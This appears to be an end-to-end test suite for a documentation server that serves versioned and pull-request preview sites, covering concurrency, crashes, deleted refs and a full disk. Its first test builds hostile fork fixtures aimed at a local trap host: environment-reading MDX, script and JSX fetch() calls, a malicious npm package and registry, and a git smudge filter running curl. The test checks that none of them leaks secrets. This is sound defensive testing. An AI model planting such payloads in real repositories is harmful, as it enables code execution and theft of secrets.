import { execFileSync } from "node:child_process";
import { createHmac } from "node:crypto";
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { createServer, request as httpRequest } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { expect, test } from "../e2e/fixtures";
import { type GitServer, startGitServer } from "../fakes/git-server";
import { type PlatformServer, startPlatformServer } from "../fakes/platform-server";
import { scaled } from "../support/chaos-scale";
import { docsJson } from "../support/docs-folder";
import { startServer, type TestServer } from "../support/server";

/* One server for versions and previews of a repository: nothing of a ref is lost, hung, leaked, or in another. */

test.describe.configure({ timeout: 600_000 });

const SECRET = "a secret of the webhook";
const TOKEN = "a-token-of-the-platform";
const KEY = "a-key-of-the-model";
const PAGES = 12;
const PULLS = 20;
const FORKS = 5;
const PUSHES = 50;
const KILLS = scaled(4, 2);
const RANDOM_PAGES = 25;

/** Time in which a server that is asked must answer, milliseconds. */
const ANSWER_LIMIT = 60_000;

/** Words that only the pages of one ref have. */
const marked = (mark: string, more = "") => `---\ntitle: Page\n---\n\nThis is mark:${mark}: here.\n\n${more}\n`;
const marksIn = (text: string) => [...new Set([...text.matchAll(/mark:([\w.-]+):/g)].map(([, mark]) => mark))];

let folder: string;
let repository: GitServer;
let platform: PlatformServer;
let server: TestServer;
/** What asked a host that only hostile pages name. */
const stolen: string[] = [];
const trap = createServer((request, response) => {
  stolen.push(request.url ?? "");
  response.end("{}");
});

const count = (cases: number) => test.info().annotations.push({ type: "cases", description: String(cases) });

interface Answer {
  status: number;
  text: string;
}

/** Asks the server by the name of a host. Rejects if there is no answer in time. */
function ask(url: string, { host = "docs.example", method = "GET", body = "", headers = {} } = {}): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const { port } = new URL(server.url);
    const options = { host: "127.0.0.1", port, path: url, method, headers: { host, ...headers }, agent: false };
    const request = httpRequest(options, (response) => {
      const chunks: Buffer[] = [];
      response.on("data", (chunk) => chunks.push(chunk));
      response.on("end", () => resolve({ status: response.statusCode ?? 0, text: Buffer.concat(chunks).toString() }));
      response.on("error", reject);
    });
    request.setTimeout(ANSWER_LIMIT, () => request.destroy(new Error(`No answer: ${url}`)));
    request.on("error", reject);
    request.end(body);
  });
}

/** The webhook as GitHub sends it. */
function notify(host = "docs.example") {
  const signature = createHmac("sha256", SECRET).update("{}").digest("hex");
  const headers = { "x-hub-signature-256": `sha256=${signature}` };
  return ask("/_lectern/reload", { host, method: "POST", body: "{}", headers });
}

async function start(data = path.join(folder, "data")) {
  const environment = {
    LECTERN_SITES: path.join(folder, "lectern.json"),
    LECTERN_DATA: data,
    PLATFORM_TOKEN: TOKEN,
    SECRET,
    KEY,
  };
  server = await startServer({ environment });
}

async function pushPull(number: number, files: Record<string, string | undefined>, from = "main") {
  repository.git("checkout", "--quiet", from);
  const commit = await repository.push(files, `pull-${number}`);
  repository.git("push", "--quiet", "--force", "origin", `HEAD:refs/pull/${number}/head`);
  repository.git("push", "--quiet", "origin", `:refs/heads/pull-${number}`);
  repository.git("checkout", "--quiet", "main");
  const isFork = number > PULLS - FORKS;
  const base = { ref: "main", repo: { id: 1 } };
  platform.open = [
    ...platform.open.filter((entry) => (entry as { number: number }).number !== number),
    { number, head: { ref: "x", sha: commit, repo: { id: isFork ? 2 : 1 } }, base },
  ];
  return commit;
}

async function release(tag: string, files: Record<string, string | undefined>) {
  await repository.push(files);
  repository.git("tag", "--force", tag);
  repository.git("push", "--quiet", "--force", "origin", tag);
}

test.beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), "lectern-refs-"));
  await writeFile(path.join(folder, "secret.txt"), "a secret of the machine");
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  repository = await startGitServer();
  platform = await startPlatformServer("github", TOKEN);
  const names = Array.from({ length: PAGES }, (_, index) => `page-${index}`);
  const navigation = { pages: names };
  await release("v1.0.0", {
    "docs.json": docsJson({ navigation }),
    ...Object.fromEntries(names.map((name) => [`${name}.mdx`, marked("v1.0.0", `The text of ${name}, as in all.`)])),
    "same.mdx": "---\ntitle: Same\n---\n\nThe same in all, with [a link](/page-1).\n",
  });
  for (const tag of ["v1.1.0", "v2.0.0"]) {
    await release(tag, Object.fromEntries(names.map((name) => [`${name}.mdx`, marked(tag, `A text of ${name}.`)])));
  }
  await repository.push(Object.fromEntries(names.map((name) => [`${name}.mdx`, marked("main", `Of ${name}.`)])));
  const git = repository.url.replace("/docs.git", "/acme/docs.git");
  const environment = { LECTERN_GIT_POLL: "0", LECTERN_WEBHOOK_SECRET: "$SECRET", ASSISTANT_API_KEY: "$KEY" };
  const site = { git, environment };
  const previews = { platform: "github", api: platform.url, token: "$PLATFORM_TOKEN", awake: 8 };
  const sites = [
    { ...site, name: "docs", hosts: ["docs.example"], url: "https://docs.example", ref: "main", previews },
    {
      ...site,
      name: "versions",
      hosts: ["versions.example"],
      url: "https://versions.example",
      versions: { refs: ["v*"] },
    },
  ];
  await writeFile(path.join(folder, "lectern.json"), JSON.stringify({ sites }));
  await start();
});

test.afterAll(async () => {
  await server?.stop();
  await repository?.dispose();
  await platform?.dispose();
  trap.close();
  if (folder) await rm(folder, { recursive: true, force: true, maxRetries: 5 });
});

test("twenty open pull requests, of which five forks are hostile, show their own text, run nothing, and read nothing", async () => {
  const url = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  const clone = repository.git("rev-parse", "--show-toplevel");
  const steal = "globalThis.process?.env?.KEY ?? globalThis.process";
  const hostile: Record<string, string>[] = [
    { "page-0.mdx": marked("pr-16", `{"EXE" + "CUTED"} {${steal}}\n\nexport const x = ${steal}\n\n{x}`) },
    {
      "page-0.mdx": `---\ntitle: Page\n---\n\nimport { Own } from "/snippets/own.jsx"\n\n<Own/> mark:pr-17:`,
      "snippets/own.jsx": `fetch("${url}/jsx"); export const Own = () => <b>{"EXE" + "CUTED"}</b>`,
    },
    {
      "page-0.mdx": marked("pr-18", `<script>fetch("${url}/script")</script>\n\n<img src="${url}/image" />`),
      "custom.js": `fetch("${url}/custom")`,
    },
    {
      "page-0.mdx": marked("pr-19"),
      "docs.json": docsJson({ navigation: { pages: ["page-0"] }, api: { openapi: `${url}/openapi.json` } }),
      "package.json": JSON.stringify({ dependencies: { evil: `${url}/evil.tgz` } }),
      "node_modules/evil/index.js": `fetch("${url}/package")`,
      ".npmrc": `registry=${url}`,
    },
    {
      "page-0.mdx": marked("pr-20", "![](/link.txt)"),
      ".gitmodules": `[submodule "a"]\n\tpath = a\n\turl = ${url}/submodule\n`,
      ".gitattributes": "*.mdx filter=evil\n",
      ".gitconfig": `[filter "evil"]\n\tsmudge = curl ${url}/filter\n`,
    },
  ];
  for (let number = 1; number <= PULLS; number += 1) {
    const fork = hostile[number - (PULLS - FORKS) - 1];
    if (number === PULLS) await symlink(path.join(folder, "secret.txt"), path.join(clone, "link.txt"));
    await pushPull(number, fork ?? { "page-0.mdx": marked(`pr-${number}`) });
  }
  await rm(path.join(clone, "link.txt"), { force: true });
  expect((await notify()).status).toBe(200);
  const numbers = Array.from({ length: PULLS }, (_, index) => index + 1);
  for (let start = 0; start < PULLS; start += 5) {
    await Promise.all(
      numbers.slice(start, start + 5).map(async (number) => {
        const page = await ask(`/~pr-${number}/page-0`);
        expect([number, page.status, marksIn(page.text)]).toEqual([number, 200, [`pr-${number}`]]);
        const others = [
          page,
          ...(await Promise.all(
            ["/link.txt", "/page-0.md", "/snippets/own.jsx"].map((at) => ask(`/~pr-${number}${at}`)),
          )),
        ];
        const text = others.map((answer) => answer.text).join("\n");
        expect(text).not.toMatch(/[^"]EXECUTED|a secret of the machine|\[object process\]/);
        for (const secret of [KEY, TOKEN, SECRET]) expect(text).not.toContain(secret);
      }),
    );
  }
  expect((await ask("/page-0")).text).toContain("mark:main:");
  // Each is checked, and commented on.
  await expect.poll(() => platform.comments.size, { timeout: 480_000, intervals: [2_000] }).toBe(PULLS);
  for (const [, text] of platform.comments)
    for (const secret of [KEY, TOKEN, SECRET]) expect(text).not.toContain(secret);
  expect(stolen).toEqual([]);
  count(PULLS);
});

test("after fifty pushes in a minute, each ref shows its last commit, and every answer was whole", async () => {
  let isOver = false;
  const seen = new Set<string>();
  const bad: string[] = [];
  const read = async (url: string) => {
    while (!isOver) {
      const { status, text } = await ask(url);
      const marks = marksIn(text);
      if (status !== 200 || marks.length !== 1) bad.push(`${url} ${status} ${marks}`);
      seen.add(marks[0] ?? "");
      await delay(100);
    }
  };
  await pushPull(1, { "page-1.mdx": marked("pull-0") });
  await notify();
  const readers = ["/page-1", "/~pr-1/page-1"].map(read);
  const hooks: Promise<Answer>[] = [];
  const begin = Date.now();
  for (let push = 1; push <= PUSHES; push += 1) {
    if (push % 5 === 0) await pushPull(1, { "page-1.mdx": marked(`pull-${push}`) });
    else await repository.push({ "page-1.mdx": marked(`push-${push}`) });
    hooks.push(notify());
    await delay(Math.max(0, begin + (push * 55_000) / PUSHES - Date.now()));
  }
  test.info().annotations.push({ type: "memory", description: `${PUSHES} pushes in ${Date.now() - begin} ms` });
  for (const { status } of await Promise.all(hooks)) expect(status).toBe(200);
  await expect
    .poll(async () => marksIn((await ask("/page-1")).text), { timeout: 60_000 })
    .toEqual([`push-${PUSHES - 1}`]);
  await expect
    .poll(async () => marksIn((await ask("/~pr-1/page-1")).text), { timeout: 60_000 })
    .toEqual([`pull-${PUSHES}`]);
  isOver = true;
  await Promise.all(readers);
  expect(bad).toEqual([]);
  count(PUSHES);
});

test("a server that is killed at any moment starts with a whole commit, and has the last one after a webhook", async () => {
  let known = marksIn((await ask("/page-2")).text)[0] ?? "";
  for (let kill = 1; kill <= KILLS; kill += 1) {
    const next = `kill-${kill}`;
    await repository.push({ "page-2.mdx": marked(next), [`more-${kill}.mdx`]: marked(next) });
    await pushPull(2, { "page-2.mdx": marked(`pull-${kill}`) });
    // It is fetching, compiling, or indexing by then.
    for (const request of [notify(), ask("/~pr-2/page-2"), ask("/page-2")]) request.catch(() => undefined);
    await delay(Math.random() * 2_000);
    await server.kill();
    await server.stop();
    await start();
    const first = await ask("/page-2");
    expect([first.status, [[known], [next]]]).toEqual([200, expect.arrayContaining([marksIn(first.text)])]);
    expect((await notify()).status).toBe(200);
    await expect.poll(async () => marksIn((await ask("/page-2")).text), { timeout: 60_000 }).toEqual([next]);
    await expect
      .poll(async () => marksIn((await ask("/~pr-2/page-2")).text), { timeout: 60_000 })
      .toEqual([`pull-${kill}`]);
    known = next;
  }
  count(KILLS);
});

test("a deleted ref, a deleted repository, and a force-push keep or show a whole commit", async () => {
  const commit = repository.git("rev-parse", "HEAD");
  expect((await ask("/v1.1.0/page-3", { host: "versions.example" })).status).toBe(200);
  await repository.push({ "page-3.mdx": marked("soon-gone") });
  expect((await notify()).status).toBe(200);
  await expect.poll(async () => marksIn((await ask("/page-3")).text)).toEqual(["soon-gone"]);
  repository.git("reset", "--quiet", "--hard", commit);
  await repository.push({ "page-3.mdx": marked("rewritten") });
  expect((await notify()).status).toBe(200);
  await expect.poll(async () => marksIn((await ask("/page-3")).text)).toEqual(["rewritten"]);
  repository.switchOff(true);
  expect((await notify()).status).toBe(422);
  expect((await notify("versions.example")).status).toBe(422);
  expect(marksIn((await ask("/page-3")).text)).toEqual(["rewritten"]);
  expect(marksIn((await ask("/v1.1.0/page-3", { host: "versions.example" })).text)).toEqual(["v1.1.0"]);
  expect((await ask("/readyz")).text).toContain("the repository could not be fetched");
  repository.switchOff(false);
  repository.git("push", "--quiet", "origin", "--delete", "v1.1.0");
  expect((await notify("versions.example")).status).toBe(200);
  await expect.poll(async () => (await ask("/v1.1.0/page-3", { host: "versions.example" })).status).toBe(404);
  repository.git("push", "--quiet", "origin", "v1.1.0");
  expect((await notify("versions.example")).status).toBe(200);
  await expect.poll(async () => (await ask("/v1.1.0/page-3", { host: "versions.example" })).status).toBe(200);
  count(5);
});

test("an invalid docs.json of a preview or a version is reported, and the site stays unchanged", async () => {
  const good = repository.git("show", "HEAD:docs.json");
  const before = marksIn((await ask("/page-3")).text);
  await pushPull(3, { "docs.json": '{\n  "name": oops\n}' });
  await notify();
  await expect.poll(async () => (await ask("/~pr-3/page-0")).text).toContain("docs.json:2:");
  await release("v3.0.0-broken", { "docs.json": '{\n  "name": oops\n}' });
  await notify("versions.example");
  const broken = () => ask("/v3.0.0-broken/page-0", { host: "versions.example" });
  await expect.poll(async () => (await broken()).text).toContain("docs.json:2:");
  expect((await broken()).status).toBe(503);
  expect(marksIn((await ask("/page-0", { host: "versions.example" })).text)).toEqual(["v2.0.0"]);
  // The commit is on the branch that the site serves, too.
  await notify();
  const { status, text } = await ask("/page-3");
  expect([status, marksIn(text)]).toEqual([200, before]);
  await repository.push({ "docs.json": good });
  await notify();
  count(3);
});

test("pages of versions are those of a checkout that is served alone", async () => {
  const tags = ["v1.0.0", "v1.1.0"];
  const clone = repository.git("rev-parse", "--show-toplevel");
  // Canonical URLs are those of the default version, and dates are those of commits.
  const content = (text: string) =>
    (/<main[\s\S]*<\/main>/.exec(text)?.[0] ?? text)
      .replace(/<script type="application\/ld\+json">.*?<\/script>/s, "")
      .replace(/_lectern\/[^"' ]*/g, "")
      .replace(/:r?[a-z0-9]+:/gi, ":");
  for (const tag of tags) {
    const alone = path.join(folder, tag);
    execFileSync("git", ["clone", "--quiet", "--branch", tag, clone, alone], { stdio: "pipe" });
    await rm(path.join(alone, ".git"), { recursive: true });
    const environment = { LECTERN_BASE_PATH: `/${tag}`, LECTERN_SITE_URL: `https://versions.example/${tag}` };
    const other = await startServer({ docsDirectory: alone, environment });
    try {
      for (let number = 0; number < RANDOM_PAGES; number += 1) {
        const name = number === 0 ? "same" : `page-${Math.floor(Math.random() * PAGES)}`;
        for (const url of [`/${tag}/${name}`, `/${tag}/${name}.md`]) {
          const [ours, theirs] = await Promise.all([
            ask(url, { host: "versions.example" }),
            fetch(new URL(url, other.url)).then((answer) => answer.text()),
          ]);
          expect(content(ours.text), url).toBe(content(theirs));
        }
      }
    } finally {
      await other.stop();
    }
  }
  count(tags.length * RANDOM_PAGES * 2);
});

test("on a full disk the last commit stays, and the next webhook with space again has the new one", async () => {
  const disk = path.join(folder, "disk");
  await mkdir(disk);
  try {
    execFileSync("mount", ["-t", "tmpfs", "-o", "size=24m", "tmpfs", disk], { stdio: "pipe" });
  } catch {
    test.skip(true, "needs the right to mount a file system");
  }
  const fill = path.join(disk, "fill");
  try {
    await server.stop();
    await start(path.join(disk, "data"));
    expect(marksIn((await ask("/page-4")).text)).toEqual(["main"]);
    try {
      execFileSync("dd", ["if=/dev/zero", `of=${fill}`, "bs=4k"], { stdio: "pipe" });
    } catch {
      // That it is full is the aim.
    }
    for (let attempt = 0; attempt < 3; attempt += 1) {
      await repository.push({ "page-4.mdx": marked(`full-${attempt}`), "large.txt": "x".repeat(100_000 + attempt) });
      expect((await notify()).status).toBe(422);
      const { status, text } = await ask("/page-4");
      expect([status, marksIn(text)]).toEqual([200, ["main"]]);
    }
    await rm(fill);
    expect((await notify()).status).toBe(200);
    await expect.poll(async () => marksIn((await ask("/page-4")).text)).toEqual(["full-2"]);
  } finally {
    await server.stop();
    execFileSync("umount", [disk]);
  }
  count(3);
});
